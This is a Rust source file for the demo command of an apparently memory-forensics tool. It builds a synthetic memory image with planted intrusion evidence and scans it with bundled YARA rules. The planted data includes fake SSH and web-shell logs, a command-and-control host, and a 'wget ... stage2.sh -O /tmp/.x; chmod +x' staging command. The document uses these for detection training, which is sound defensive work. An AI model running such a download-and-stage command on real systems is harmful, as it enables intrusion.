//! `ramsift demo`: a small capture of a machine with planted evidence, scanned like any other, so that a
//! newcomer without a capture sees the main job.
//!
//! ```text
//! machine   a made Windows of build 19041 after an intrusion: a hidden process, injected code, connections, a script in the cache, log
//!           records, a start-up key (data/demo-machine.xz, by tests/fixtures/windows/demo.py)
//! rest      zeros, random pages and text in the pages that the machine does not use, and planted evidence among them
//! ```

use crate::args::{DemoArgs, JobArgs, ScanArgs};
use crate::config::Config;
use crate::scan;
use crate::terminal::say;
use anyhow::{Context, Result};
use ramsift_symbols::isf;
use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

const PAGE: usize = 4096;

/// A small generator of pseudo-random numbers (splitmix64), so that every demo is the same.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ z >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ z >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ z >> 31
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn fill(&mut self, page: &mut [u8]) {
        for w in page.chunks_mut(8) {
            let v = self.next().to_le_bytes();
            let n = w.len();
            w.copy_from_slice(&v[..n]);
        }
    }
}

/// What an intruder on a web server leaves in memory: invented names and documentation addresses.
const STORY: &[&str] = &[
    "Mar  3 02:11:07 web01 sshd[812]: Failed password for invalid user admin from 203.0.113.77 port 40022 ssh2\n",
    "Mar  3 02:11:09 web01 sshd[812]: Failed password for root from 203.0.113.77 port 40024 ssh2\n",
    "Mar  3 02:11:15 web01 sshd[819]: Accepted password for deploy from 203.0.113.77 port 40031 ssh2\n",
    "Mar  3 02:12:02 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash\n",
    "203.0.113.77 - - [03/Mar/2026:02:09:41 +0000] \"GET /upload.php?cmd=id HTTP/1.1\" 200 412 \"-\" \"curl/8.5.0\"\n",
    "203.0.113.77 - - [03/Mar/2026:02:09:55 +0000] \"POST /upload.php HTTP/1.1\" 200 18 \"-\" \"curl/8.5.0\"\n",
    "2026-03-03T02:13:44Z WARN backup agent stopped unexpectedly\n",
    "<86>1 2026-03-03T02:14:10.003Z web01 sudo 901 - - pam_unix(sudo:session): session opened for user root\n",
    "{\"time\":\"2026-03-03T02:15:01.250Z\",\"host\":\"web01\",\"msg\":\"outbound connection to c2.bad-example.net:443\"}\n",
];

const STRINGS: &[&[u8]] = &[
    b"\0https://c2.bad-example.net/gate.php?id=7f3a\0",
    b"\0exfil@bad-example.net\0",
];

/// Planted once, side by side: a configuration block of an implant.
const IMPLANT: &[u8] =
    b"\0DEMO-IMPLANT-BEACON-KEY=5d41402abc4b\0DEMO-IMPLANT-HOST=c2.bad-example.net\0\
\0wget http://198.51.100.23/stage2.sh -O /tmp/.x; chmod +x /tmp/.x\0";

/// One pixel, as PNG.
const PNG: &[u8] = b"\x89PNG\x0d\x0a\x1a\x0a\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x0dIDA\
Tx\x9cc\xf8\xdf\xc0\xf0\x1f\x00\x06\x80\x02\x7f\x10L\x1b\xe1\x00\x00\x00\x00IEND\xaeB`\x82";

const RULES: &str = r#"rule demo_implant : implant {
    meta:
        description = "beacon key of the demo's implant, with its command and control host"
        severity = "critical"
    strings:
        $key = "DEMO-IMPLANT-BEACON-KEY="
        $host = "DEMO-IMPLANT-HOST=" ascii wide
    condition:
        $key and $host
}
rule demo_downloader {
    meta:
        description = "shell download into a hidden file"
        severity = "high"
    strings:
        $a = /wget http:\/\/[0-9.]{7,15}\/[a-z0-9.]{1,20} -O \/tmp\/\.[a-z]/
    condition:
        $a
}
"#;

/// The machine's pages: how many, their numbers, then the pages themselves.
const MACHINE: &[u8] = include_bytes!("../data/demo-machine.xz");
/// Its memory, in MiB.
const MACHINE_MIB: u64 = 64;

/// The pages of the machine, by number.
fn machine() -> Result<BTreeMap<u64, Vec<u8>>> {
    let all = isf::decompress(MACHINE)?;
    let number = |i: usize| {
        let b = all.get(i * 4..i * 4 + 4).and_then(|b| b.first_chunk());
        b.map_or(0, |b| u32::from_le_bytes(*b))
    };
    let count = usize::try_from(number(0))?;
    let pages = all
        .get(4 + 4 * count..)
        .unwrap_or_default()
        .chunks_exact(PAGE);
    let numbers = (1..=count).map(|i| u64::from(number(i)));
    Ok(numbers.zip(pages.map(<[u8]>::to_vec)).collect())
}

/// Makes the capture: the machine's pages, and zero, random and text pages between, with the evidence at fixed places.
fn make(path: &Path, mib: u64) -> Result<()> {
    let mut r = Random(2026);
    let machine = machine()?;
    let pages = mib.max(MACHINE_MIB) * 256;
    let spots = spots(pages, &machine);
    let mut out = std::io::BufWriter::with_capacity(1 << 20, std::fs::File::create(path)?);
    let mut page = vec![0u8; PAGE];
    for n in 0..pages {
        page.fill(0);
        match n % 8 {
            _ if machine.contains_key(&n) => {}
            0 | 3 | 5 => {}
            1 | 2 => r.fill(&mut page),
            _ => {
                let words = ["cache", "session", "kernel", "worker", "request", "socket"];
                let mut at = 0;
                while at + 40 < PAGE {
                    let w = words[usize::try_from(r.below(6)).unwrap_or(0)];
                    let s = format!("{w}-{:08x}", r.below(1 << 32));
                    page[at..at + s.len()].copy_from_slice(s.as_bytes());
                    at += s.len() + 1 + usize::try_from(r.below(40)).unwrap_or(0);
                }
            }
        }
        match (machine.get(&n), spots.get(&n)) {
            (Some(own), _) => page.copy_from_slice(own),
            (None, Some(k)) => plant(*k, &mut page),
            (None, None) => {}
        }
        out.write_all(&page)?;
    }
    out.flush()?;
    Ok(())
}

/// Pages for the evidence, each with its number: spread evenly, where the machine has none.
fn spots(pages: u64, machine: &BTreeMap<u64, Vec<u8>>) -> BTreeMap<u64, usize> {
    let every = pages / 24;
    let spot = |k: usize| {
        let mut from = k as u64 * every + 1..pages;
        Some((from.find(|n| !machine.contains_key(n))?, k))
    };
    (0..24).filter_map(spot).collect()
}

/// Puts a piece of the evidence on its page.
fn plant(k: usize, page: &mut [u8]) {
    page.fill(0);
    let what: Vec<u8> = match k {
        2 | 9 => STORY.concat().into_bytes(),
        4 => STORY[..4]
            .concat()
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect(),
        6 => PNG.to_vec(),
        7 => IMPLANT.to_vec(),
        _ => STRINGS.get(k % 4).map(|s| s.to_vec()).unwrap_or_default(),
    };
    page[..what.len()].copy_from_slice(&what);
}

/// Runs the command. Returns the exit code.
pub(crate) async fn run(config: &Config, args: DemoArgs) -> Result<u8> {
    let dir = &args.out;
    std::fs::create_dir_all(dir).with_context(|| format!("folder {}", dir.display()))?;
    let (image, rules) = (dir.join("demo.mem"), dir.join("demo.yar"));
    if !image.exists() {
        make(&image, args.size).with_context(|| format!("capture {}", image.display()))?;
    }
    std::fs::write(&rules, RULES).with_context(|| format!("rules {}", rules.display()))?;
    let store = dir.join("results").display().to_string();
    say!(
        "made {}: a machine after an intrusion, and planted evidence; scanning it like any other:",
        image.display()
    );
    say!(
        "$ ramsift scan {} --rules {} --out {store}\n",
        image.display(),
        rules.display()
    );
    let scan = ScanArgs {
        images: vec![image.display().to_string()],
        job: JobArgs {
            rules: vec![rules],
            define: Vec::new(),
            matches: "listed".into(),
            only: None,
            timezone: None,
            carvers: Vec::new(),
            av: crate::args::AvScope::Both,
            copy_artifacts: None,
            case_name: Some("demo".into()),
            evidence: None,
            examiner: None,
            label: Vec::new(),
            hash: None,
            expect_hash: None,
        },
        clamd: None,
        out: Some(store),
        fail_on: None,
        fresh: false,
    };
    scan::run(config, scan).await
}
